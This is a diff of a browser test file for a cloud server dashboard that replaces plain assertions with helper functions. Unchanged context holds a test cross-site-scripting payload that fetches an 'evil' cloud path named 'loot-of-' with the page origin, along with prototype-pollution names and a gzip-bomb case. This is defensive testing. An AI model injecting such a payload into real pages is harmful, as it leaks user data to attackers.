@@ -6,7 +6,7 @@ import { gzipSync } from "node:zlib";
 import { launchBrowser } from "../../src/xtask/browser.mjs";
 import { startCloud, startServer } from "../server/helpers.mjs";
 import * as steps from "./steps.mjs";
-import { visitor } from "./visitor.mjs";
+import { counts, reads, visitor } from "./visitor.mjs";
 
 // Says in the page that it ran, and to its cloud who it is there.
 const SCRIPT = `(globalThis.window ?? globalThis).ran = true; fetch("/proxy/evil/compute/v2.1/os-keypairs/loot-of-" + self.origin.replace(/\\W/g, "-"), { headers: { "x-ecs-password-console": "1" } });`;
@@ -170,7 +170,7 @@ test("names that every object has are names as all others: of a status, a key pa
     page.setDefaultTimeout(15_000);
     await steps.signIn(page, { name: "u", domain: "d", password: "secret-of-u", project: "p" });
     await page.getByRole("link", { name: "server __proto__", exact: true }).waitFor();
-    assert.equal(await page.locator("a.server-name").count(), evil.length);
+    await counts(page.locator("a.server-name"), evil.length);
     for (const column of ["Status", "Key pair"]) await page.getByRole("columnheader", { name: column }).getByRole("button").click();
     await page.getByRole("link", { name: "server __proto__", exact: true }).click();
     await page.getByRole("heading", { name: "server __proto__", level: 1 }).waitFor();
@@ -210,7 +210,7 @@ test("300 MB in 0.3 MB of gzip are an error that says so, and the page goes on",
   await visitor(from, async (page) => {
     await steps.signInWithToken(page, "token", "0".repeat(32));
     const error = page.getByRole("group", { name: "Error" });
-    assert.match(await error.innerText(), /the answer of cloud huge is larger than 8388608 bytes/);
+    await reads(error, /the answer of cloud huge is larger than 8388608 bytes/);
     await error.getByRole("button", { name: "Try again" }).click();
     await page.getByText("There are no servers in this project").waitFor();
   });
